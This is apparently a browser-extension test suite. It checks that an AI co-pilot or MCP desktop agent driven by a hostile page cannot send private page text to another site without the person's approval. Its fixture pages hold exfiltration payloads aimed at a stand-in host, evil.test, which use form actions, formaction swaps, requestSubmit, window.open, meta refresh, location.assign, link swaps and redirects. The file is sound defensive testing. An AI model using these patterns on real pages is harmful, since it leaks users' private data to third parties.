// What an action DOES, end to end: a co-pilot that obeys a hostile page
// (the stand-in model's `steps` agent) copies the page's private text into a
// form and presses an innocent-looking control; whatever way the page
// routes that to another site (a form's action, Enter, formaction,
// requestSubmit in a click handler, an action changed on mousedown, a new
// window, a meta refresh, location.assign, a link changed on mousedown, a
// redirect), nothing reaches that site's server unless the person allows it
// in the side panel. And desktop agents (MCP) are held to the sites the
// person shared or allowed, refused when no panel is open to ask.
// Sites: shop.test (the page) and evil.test (the other site), both this
// test's server through --host-resolver-rules.
import { test, before, after, beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { existsSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport, getDefaultEnvironment } from '@modelcontextprotocol/sdk/client/stdio.js';
import { launch, refOf, ROOT, EXTENSION_ID } from '../harness.mjs';
import { startModelServer } from '../model-server.mjs';

const PRIVATE = 'PRIVATE-7731';
const PANEL = `chrome-extension://${EXTENSION_ID}/extension/panel/sidepanel.html`;
let b, model, port, server;
/** Every request evil.test's server got. */
const evil = [];
const opened = [];

const head = '<!doctype html><meta charset="utf-8">';
const order = `<p>Order ${PRIVATE} for Ada Lovelace, 12 Rua Augusta, Lisbon</p>`;
const feedback = '<label>Feedback <textarea name="f"></textarea></label>';
/** The pages of shop.test, by path; `{{EVIL}}` is evil.test's origin. */
const PAGES = {
  '/continue': `${head}<title>Feedback</title>${order}<form action="{{EVIL}}/collect" method="post">${feedback}<button>Continue</button></form>`,
  '/enter': `${head}<title>Name</title>${order}<form action="{{EVIL}}/collect" method="get"><label>Name <input name="n"></label></form>`,
  '/formaction': `${head}<title>Feedback</title>${order}<form action="/thanks" method="post">${feedback}<button formaction="{{EVIL}}/collect">Continue</button></form>`,
  '/requestsubmit': `${head}<title>Feedback</title>${order}<form action="{{EVIL}}/collect" method="post">${feedback}<button type="button" onclick="this.form.requestSubmit()">Next</button></form>`,
  '/late': `${head}<title>Feedback</title>${order}<form id="f" action="/thanks" method="post">${feedback}<button id="go">Continue</button></form>
    <script>go.addEventListener('mousedown', () => { f.action = '{{EVIL}}/collect'; });</script>`,
  '/popup': `${head}<title>Feedback</title>${order}${feedback}
    <button type="button" onclick="window.open('{{EVIL}}/collect?d=' + encodeURIComponent(document.querySelector('textarea').value))">Preview</button>`,
  '/blank': `${head}<title>Feedback</title>${order}<form action="{{EVIL}}/collect" method="post" target="_blank">${feedback}<button>Continue</button></form>`,
  '/refresh': `${head}<title>Feedback</title>${order}${feedback}
    <button type="button" onclick="const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url={{EVIL}}/collect?d=' + encodeURIComponent(document.querySelector('textarea').value); document.head.append(m)">Next</button>`,
  '/assign': `${head}<title>Feedback</title>${order}${feedback}
    <button type="button" onclick="location.assign('{{EVIL}}/collect?d=' + encodeURIComponent(document.querySelector('textarea').value))">Next</button>`,
  '/swap': `${head}<title>Feedback</title>${order}${feedback}<p><a id="next" href="/thanks">Next page</a></p>
    <script>next.addEventListener('mousedown', () => { next.href = '{{EVIL}}/collect?d=' + encodeURIComponent(document.querySelector('textarea').value); });</script>`,
  '/redirecting': `${head}<title>Feedback</title>${order}<p><a href="/redirect?to={{EVIL}}/collect?d=${PRIVATE}">Next page</a></p>`,
  '/framed': `${head}<title>Feedback</title>${order}<iframe src="{{WIDGET}}/widget" width="400" height="200"></iframe>`,
  '/widget': `${head}<title>Widget</title><form action="{{EVIL}}/collect" method="post" target="_top">${feedback}<button type="button" onclick="this.form.requestSubmit()">Next</button></form>`,
  '/thanks': `${head}<title>Thanks</title><p>Thank you</p>`,
};

before(async () => {
  server = createServer((req, res) => {
    const host = (req.headers.host || '').split(':')[0];
    const url = new URL(req.url, `http://${req.headers.host}`);
    let body = '';
    req.on('data', (c) => { body += c; });
    req.on('end', () => {
      if (host === 'evil.test') {
        // (The browser's own look for an icon, once a page of the site is shown, is not the page's doing.)
        if (url.pathname !== '/favicon.ico') evil.push({ method: req.method, url: req.url, body });
        res.writeHead(200, { 'content-type': 'text/html' }).end(`${head}<title>Got it</title><p>Got it</p>`);
      } else if (url.pathname === '/redirect') {
        res.writeHead(302, { location: url.searchParams.get('to') }).end();
      } else if (PAGES[url.pathname]) {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(PAGES[url.pathname].replaceAll('{{EVIL}}', `http://evil.test:${port}`).replaceAll('{{WIDGET}}', `http://widget.test:${port}`));
      } else {
        res.writeHead(404).end();
      }
    });
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  port = /** @type {any} */ (server.address()).port;
  model = await startModelServer();
  b = await launch({ viewport: { width: 420, height: 760 }, args: ['--host-resolver-rules=MAP *.test 127.0.0.1'] });
});
after(async () => {
  await b?.close();
  await model?.close();
  server?.closeAllConnections();
  await new Promise((r) => (server ? server.close(r) : r()));
});
beforeEach(async () => {
  model.reset();
  evil.length = 0;
  for (const p of opened.splice(0)) await p.close().catch(() => {});
  await b.worker.evaluate(() => chrome.storage.session.clear());
});

const shop = (path) => `http://shop.test:${port}${path}`;

/** A shop.test tab and a co-pilot panel bound to it, using the stand-in model's `steps` agent. */
async function task(path) {
  // The person lets the co-pilot act on shop.test without asking first: these tests are about where an action sends things.
  await b.worker.evaluate((provider) => chrome.storage.local.set({ provider, alwaysSites: ['shop.test'] }), { kind: 'anthropic', baseURL: model.anthropicURL, model: 'steps', apiKey: 'sk-standin' });
  const page = await b.ctx.newPage();
  opened.push(page);
  await page.goto(shop(path), { waitUntil: 'load' });
  const tabId = await b.tabId(page);
  const panel = await b.ctx.newPage();
  opened.push(panel);
  await panel.goto(`${PANEL}?tab=${tabId}`);
  await panel.waitForSelector('body[data-ready="true"]');
  return { page, panel, tabId };
}

/** Sends the goal; answers the panel's question with `answer` ('Deny' or 'Allow once'); resolves with the question. */
async function run(panel, goal, answer = 'Deny') {
  const before = Number(await panel.evaluate(() => document.body.dataset.finished || 0));
  await panel.getByRole('textbox', { name: 'Message' }).fill(goal);
  await panel.getByRole('button', { name: 'Send' }).click();
  const button = panel.locator('#confirms').getByRole('button', { name: answer });
  await button.waitFor({ timeout: 30000 }).catch(async (e) => {
    throw new Error(`no question in the panel (evil.test got ${JSON.stringify(evil)}; pages ${b.ctx.pages().map((p) => p.url())}); it shows:\n${await panel.locator('body').innerText()}\n${await stepDetails(panel)}`);
  });
  const question = await panel.locator('#confirms').innerText();
  await button.click();
  await panel.waitForFunction((k) => Number(document.body.dataset.finished || 0) >= k, before + 1, { timeout: 60000 });
  return question;
}

const stepDetails = (panel) => panel.evaluate(() => [...document.querySelectorAll('.step pre')].map((p) => p.textContent).join('\n'));
const nothingSent = async (page, path) => {
  // A request let through late would still arrive: give it the time to.
  await new Promise((r) => setTimeout(r, 500));
  assert.deepEqual(evil, [], 'nothing reached evil.test');
  assert.equal(page.url(), shop(path), 'the tab stayed on shop.test');
};

test('(a) a form whose action posts to another site, submitted by "Continue": asked first; Deny sends nothing, Allow once sends it', async () => {
  const { page, panel } = await task('/continue');
  const question = await run(panel, 'fill "Feedback" with the page; click button "Continue"');
  assert.match(question, /The co-pilot wants to send a form \(POST\) to evil\.test/);
  assert.match(question, new RegExp(`http://evil\\.test:${port}/collect`));
  await nothingSent(page, '/continue');
  assert.match(await stepDetails(panel), /Error declined: the person declined/);

  await run(panel, 'click button "Continue"', 'Allow once');
  await page.waitForURL(/evil\.test/);
  assert.equal(evil.length, 1);
  assert.equal(evil[0].method, 'POST');
  assert.match(decodeURIComponent(evil[0].body), new RegExp(PRIVATE), 'what the person allowed was sent');
});

test('(b) Enter in a field whose form sends to another site is asked first', async () => {
  const { page, panel } = await task('/enter');
  const question = await run(panel, 'fill "Name" with the page; press Enter in "Name"');
  assert.match(question, /send a form \(GET\) to evil\.test/);
  await nothingSent(page, '/enter');
});

test('(c) a button whose formaction sends to another site is asked first', async () => {
  const { page, panel } = await task('/formaction');
  assert.match(await run(panel, 'fill "Feedback" with the page; click button "Continue"'), /send a form \(POST\) to evil\.test/);
  await nothingSent(page, '/formaction');
});

for (const [name, path, kind, clicks] of [
  ['(d) form.requestSubmit() in the click handler of a plain button', '/requestsubmit', /send a form \(POST\) to evil\.test/, 'button "Next"'],
  ['(e) an action changed to another site on mousedown', '/late', /send a form \(POST\) to evil\.test/, 'button "Continue"'],
  ['a <meta http-equiv=refresh> added by the click handler', '/refresh', /go to evil\.test/, 'button "Next"'],
  ['location.assign() in the click handler', '/assign', /go to evil\.test/, 'button "Next"'],
  ['a link whose href changes on mousedown', '/swap', /go to evil\.test/, 'link "Next page"'],
  ['a form in another site\'s frame sent to the top window by requestSubmit()', '/framed', /send a form \(POST\) to evil\.test/, 'button "Next"'],
]) {
  test(`${name}: held at the network edge, asked, refused; the answer says what was blocked`, async () => {
    const { page, panel } = await task(path);
    assert.match(await run(panel, `fill "Feedback" with the page; click ${clicks}`), kind);
    await nothingSent(page, path);
    assert.match(await stepDetails(panel), /it was blocked: the person declined/);
  });
}

test('a same-site link that redirects to another site: the redirect is held', async () => {
  const { page, panel } = await task('/redirecting');
  assert.match(await run(panel, 'click link "Next page"'), /go to evil\.test/);
  await nothingSent(page, '/redirecting');
});

test('(f) a new window on another site: window.open in a click handler, and a form with target=_blank', async () => {
  for (const [path, clicks] of [['/popup', 'button "Preview"'], ['/blank', 'button "Continue"']]) {
    const { page, panel } = await task(path);
    const tabs = b.ctx.pages().length;
    assert.match(await run(panel, `fill "Feedback" with the page; click ${clicks}`), /open a window on evil\.test|send a form \(POST\) to evil\.test/);
    await nothingSent(page, path);
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(b.ctx.pages().filter((p) => /evil\.test/.test(p.url())).length, 0, 'no window is left on evil.test');
    assert.ok(b.ctx.pages().length <= tabs + 1);
  }
});

test('a new window the person allows is loaded again, by GET, with what the page put in its URL', async () => {
  const { panel } = await task('/popup');
  assert.match(await run(panel, 'fill "Feedback" with the page; click button "Preview"', 'Allow once'), /open a window on evil\.test/);
  let shown;
  for (let i = 0; i < 100 && !shown; i++) {
    shown = b.ctx.pages().find((p) => /evil\.test/.test(p.url()));
    if (!shown) await new Promise((r) => setTimeout(r, 100));
  }
  assert.ok(shown, 'the new window shows evil.test');
  opened.push(shown);
  await shown.waitForFunction(() => document.querySelector('p')?.textContent === 'Got it');
  assert.equal(evil.length, 1);
  assert.match(decodeURIComponent(evil[0].url), new RegExp(PRIVATE));
});

test('the panel\'s own requests without a guard (the developer view) are not held', async () => {
  const page = await b.ctx.newPage();
  opened.push(page);
  await page.goto(shop('/continue'));
  const tabId = await b.tabId(page);
  const snap = await b.call({ cmd: 'snapshot', tabId });
  const res = await b.call({ cmd: 'act', tabId, ref: refOf(snap.text, 'button "Continue"'), action: 'click' });
  assert.equal(res.ok, true, JSON.stringify(res.error));
  await page.waitForURL(/evil\.test/);
  assert.equal(evil.length, 1);
});

// ---- desktop agents

const BIN = join(ROOT, 'target/debug/axsnap-mcp');

test('(g) a desktop agent: a site outside what the person shared is refused while no panel is open, and nothing is sent', async (t) => {
  if (!existsSync(BIN)) return t.skip(`${BIN} is missing: cargo build -p axsnap-mcp`);
  const token = randomBytes(16).toString('hex');
  const agentPort = 20000 + Math.floor(Math.random() * 20000);
  const client = new Client({ name: 'edge-agent', version: '1' });
  await client.connect(new StdioClientTransport({ command: BIN, args: ['--port', String(agentPort), '--connect-timeout', '5'], stderr: 'ignore', env: { ...getDefaultEnvironment(), AXSNAP_MCP_TOKEN: token } }));
  const tool = async (name, args = {}) => {
    const r = /** @type {any} */ (await client.callTool({ name, arguments: args }));
    return { text: r.content.map((c) => c.text).join('\n'), code: r.structuredContent?.code, error: r.isError === true };
  };
  try {
    const person = await b.ctx.newPage();
    opened.push(person);
    await person.goto(shop('/continue'));
    const shared = await b.tabId(person);
    await b.worker.evaluate(([s, p, tok]) => chrome.storage.local.set({ mcpShared: [s], mcp: { enabled: true, url: `ws://127.0.0.1:${p}`, token: tok } }), [shared, agentPort, token]);
    for (let i = 0; i < 100 && !/shop\.test/.test((await tool('browser_tabs')).text); i++) await new Promise((r) => setTimeout(r, 100));
    // No side panel open anywhere: nobody can allow anything.
    for (const p of b.ctx.pages()) if (p.url().startsWith(PANEL)) await p.close();

    const nav = await tool('browser_navigate', { tabId: shared, url: `http://evil.test:${port}/collect?d=${PRIVATE}` });
    assert.equal(nav.code, 'confirmation_unavailable', nav.text);
    assert.match(nav.text, /no side panel is open/);
    const open = await tool('browser_tabs', { action: 'open', url: `http://evil.test:${port}/collect?d=${PRIVATE}` });
    assert.equal(open.code, 'confirmation_unavailable', open.text);

    const snap = await tool('browser_snapshot', { tabId: shared });
    await tool('browser_act', { tabId: shared, action: 'fill', ref: refOf(snap.text, 'textbox "Feedback"'), value: PRIVATE });
    const click = await tool('browser_act', { tabId: shared, action: 'click', ref: refOf(snap.text, 'button "Continue"') });
    assert.equal(click.code, 'confirmation_unavailable', click.text);
    await nothingSent(person, '/continue');

    // The shared tab's own site is the agent's to use.
    const same = await tool('browser_navigate', { tabId: shared, url: shop('/thanks') });
    assert.equal(same.error, false, same.text);
  } finally {
    await b.worker.evaluate(() => chrome.storage.local.set({ mcp: { enabled: false }, mcpShared: [] }));
    await client.close();
  }
});
